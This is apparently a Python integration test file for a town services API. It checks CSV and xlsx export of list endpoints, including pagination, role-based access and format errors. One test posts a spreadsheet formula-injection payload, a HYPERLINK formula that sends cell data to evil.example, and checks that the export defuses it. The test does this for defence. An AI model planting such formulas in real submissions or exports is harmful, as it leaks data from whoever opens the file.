"""Any list as CSV or xlsx, over HTTP."""

import csv
import io
from collections.abc import Callable

import httpx
import pytest
from openpyxl import load_workbook

from services.api.openapi import lists_of
from services.domain.kinds import Role
from services.store.connection import connect
from tests.integration.api.conftest import Api
from tests.integration.api.seeded_town import NOW

CSV = "text/csv"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

WANTED = {
    "/api/v1/clearance",
    "/api/v1/clearance/visits",
    "/api/v1/points",
    "/api/v1/vehicles",
    "/api/v1/cases",
    "/api/v1/alarms",
    "/api/v1/assessments",
    "/api/v1/facilities",
    "/api/v1/utilisation/stations",
    "/api/v1/utilisation/toilets",
    "/api/v1/utilisation/vehicles",
    "/api/v1/utilisation/containers",
}
UNTIL_NOW = "/api/v1/utilisation/"


def _rows(answer: httpx.Response) -> list[dict[str, str]]:
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def test_what_people_want_in_a_spreadsheet_is_a_list(api: Api) -> None:
    """The description says of each of these that it can be a table, and which columns it has."""
    assert set(lists_of(api.app.openapi())) >= WANTED


@pytest.mark.parametrize("path", sorted(WANTED))
def test_every_list_is_a_table_in_both_formats(api: Api, admin: httpx.Client, path: str) -> None:
    """By `format` and by `Accept` alike, with the columns of the description also where the list is empty."""
    columns = set(lists_of(api.app.openapi())[path])
    # What reaches until now is another list a moment later, by the town's clock too.
    span = {"end": NOW.isoformat()} if path.startswith(UNTIL_NOW) else {}
    by_format = admin.get(path, params=span | {"format": "csv"})
    by_accept = admin.get(path, params=span, headers={"Accept": CSV})
    assert by_format.content == by_accept.content
    assert 'filename="' in by_format.headers["content-disposition"]
    header = by_format.content.decode("utf-8-sig").splitlines()[0].split(",")
    assert columns <= set(header)
    book = admin.get(path, params=span, headers={"Accept": XLSX})
    assert book.headers["content-type"] == XLSX
    sheet = load_workbook(io.BytesIO(book.content)).active
    assert sheet is not None
    assert [cell.value for cell in next(sheet.iter_rows())] == header
    assert sheet.max_row == len(_rows(by_format)) + 1


def test_a_table_is_the_whole_list(admin: httpx.Client) -> None:
    """Whatever page was asked for; other parameters hold."""
    rows = _rows(admin.get("/api/v1/points", params={"format": "csv", "limit": 1, "zone_id": "Z1"}))
    assert [row["id"] for row in rows] == ["P1", "P2"]
    assert rows[0]["day.state"] == "cleared"


def test_a_table_of_many_pages(api: Api, admin: httpx.Client) -> None:
    """Five thousand and more rows are fetched page by page, each once."""
    with connect(api.database_url) as connection:
        connection.execute(
            "INSERT INTO audit_log (happened_at, user_name, action, subject) "
            "SELECT now(), 'somebody', 'many', n::text FROM generate_series(1, 5001) AS n"
        )
    rows = _rows(admin.get("/api/v1/audit", params={"action": "many", "format": "csv"}))
    assert [row["subject"] for row in rows] == [str(number) for number in range(5001, 0, -1)]


def test_what_residents_write_is_not_run(api: Api, admin: httpx.Client) -> None:
    """A report that begins like a formula is a text in the office's spreadsheet."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点")'
    api.client().post("/api/v1/public/reports", json={"description": evil}).raise_for_status()
    [row] = [
        row for row in _rows(admin.get("/api/v1/cases", params={"format": "csv"})) if "HYPERLINK" in row["description"]
    ]
    assert row["description"] == f"'{evil}"


def test_a_table_shows_what_one_may_see(sign_in: Callable[[Role], httpx.Client]) -> None:
    """A contractor's own; who may not ask for the list may not ask for its table; errors stay problems."""
    rows = _rows(sign_in(Role.CONTRACTOR).get("/api/v1/points", params={"format": "csv"}))
    assert [row["id"] for row in rows] == ["P1", "P2"]
    refused = sign_in(Role.DRIVER).get("/api/v1/points", params={"format": "xlsx"})
    assert (refused.status_code, refused.headers["content-type"]) == (403, "application/problem+json")
    wrong = sign_in(Role.OFFICE).get("/api/v1/points", params={"format": "csv", "date": "tomorrow"})
    assert wrong.status_code == 422


def test_formats_that_there_are_not(admin: httpx.Client) -> None:
    """422 with those that there are; JSON can be asked for by its name; where nothing is a list, nothing changes."""
    answer = admin.get("/api/v1/points", params={"format": "pdf"})
    assert answer.status_code == 422
    assert answer.json()["errors"] == [{"field": "query.format", "message": "Expected one of json, csv, xlsx."}]
    assert "items" in admin.get("/api/v1/points", params={"format": "json"}, headers={"Accept": CSV}).json()
    assert admin.get("/api/v1/town", headers={"Accept": CSV}).json()["name"] == "清河县"
